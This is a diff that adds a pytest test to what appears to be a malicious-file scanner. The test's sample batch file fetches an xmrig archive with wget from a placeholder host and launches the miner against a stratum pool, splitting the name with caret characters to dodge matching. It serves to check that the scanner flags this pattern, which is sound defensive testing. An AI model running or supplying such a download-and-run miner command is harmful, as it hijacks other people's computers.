@@ -84,3 +84,10 @@ def test_other_file_kinds(engine):
     assert engine.scan_bytes(b"numpy==1.26\npandas\n", "requirements.txt").findings == []
     env = b"name: x\ndependencies:\n  - python=3.11\n  - pip:\n    - torch\n"
     assert engine.scan_bytes(env, "environment.yml").error is None
+
+
+def test_batch_files(engine):
+    bat = b"@echo off\nrem fetch the model\necho Don't close this window\nwget https://example.org/m/xm^rig.tar.gz\nx^mrig.exe -o stratum+tcp://pool.example.net:3333 -u w\n"
+    r = engine.scan_bytes(bat, "run.bat")
+    assert r.error is None and "NBW201" in {f.rule_id for f in r.findings}
+    assert engine.scan_bytes(b"@echo off\nrem xmrig -o stratum+tcp://x:3333\necho done\n", "c.cmd").findings == []
